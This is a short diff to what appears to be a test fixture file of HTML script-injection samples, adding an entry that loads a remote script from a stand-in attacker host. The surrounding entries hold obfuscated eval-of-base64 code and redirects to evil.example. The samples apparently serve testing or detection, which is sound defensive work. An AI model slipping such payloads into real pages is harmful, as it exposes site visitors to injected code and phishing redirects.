@@ -33,6 +33,7 @@ export const injections: Record<string, string> = {
   "packed data layer": '<script>dataLayer=[];window["ev"+"al"](window["at"+"ob"]("YWxlcnQoMSk="))</script>',
   "script that loads":
     '<script>var s=document.createElement("script");s.src="//"+"evil.example"+"/x.js";document.head.appendChild(s)</script>',
+  "script that a helper loads": '<script>$.getScript("https://cdn.evil.example/x.js")</script>',
   "script that leads away": '<script>location.href="https://evil.example/"</script>',
   "script that leads away in time":
     '<script>setTimeout(function(){window.location.replace("/verify")},3000)</script>',
